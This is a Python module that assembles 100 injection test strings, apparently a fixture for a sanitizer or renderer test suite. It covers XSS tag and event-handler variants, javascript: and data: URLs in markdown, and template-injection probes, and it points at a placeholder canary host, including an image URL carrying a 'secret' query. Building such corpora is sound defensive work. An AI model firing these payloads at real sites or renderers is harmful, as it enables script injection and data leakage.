"""A hundred texts that try to become script, markup or a request; none names a host that exists."""

from __future__ import annotations

CANARY = "https://canary.invalid"

_EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "onanimationstart",
    "ontoggle",
    "onbegin",
    "onpointerenter",
)
_TAGS = (
    "<img src=x {e}=alert(1)>",
    "<svg {e}=alert(1)>",
    "<body {e}=alert(1)>",
    "<details open {e}=alert(1)>x</details>",
    '"><input autofocus {e}=alert(1)>',
)
_SCRIPTS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    f"<script src={CANARY}/s.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    f"<embed src={CANARY}/e>",
    f"<base href={CANARY}/>",
    f"<meta http-equiv=refresh content='0;url={CANARY}'>",
    f"<link rel=stylesheet href={CANARY}/l.css>",
    f"<style>@import '{CANARY}/i.css';</style>",
    f'<div style="background:url({CANARY}/b.png)">x</div>',
    f"<video poster={CANARY}/p.png><source src={CANARY}/v.mp4></video>",
    f"<audio src={CANARY}/a.mp3 autoplay></audio>",
    f"<img src={CANARY}/i.png>",
    f"<img srcset='{CANARY}/1.png 1x'>",
    f"<form action={CANARY}/f><button>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
)
_MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    f"![x]({CANARY}/m.png)",
    f'![x]({CANARY}/m.png?q=secret "title")',
    f"![x][1]\n\n[1]: {CANARY}/r.png",
    f"[![x]({CANARY}/n.png)]({CANARY}/n)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | d |",
    "- [ ] <svg onload=alert(1)>",
    "> <img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "**<img src=x onerror=alert(1)>**",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\<img src=x onerror=alert(1)>",
)
_TEMPLATES = (
    "{{ 7*7 }}",
    "${7*7}",
    "{% raw %}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "__proto__",
    "<?php echo 1; ?>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)

PAYLOADS: tuple[str, ...] = (
    *(tag.format(e=event) for tag in _TAGS for event in _EVENTS),
    *_SCRIPTS,
    *_MARKDOWN,
    *_TEMPLATES,
)
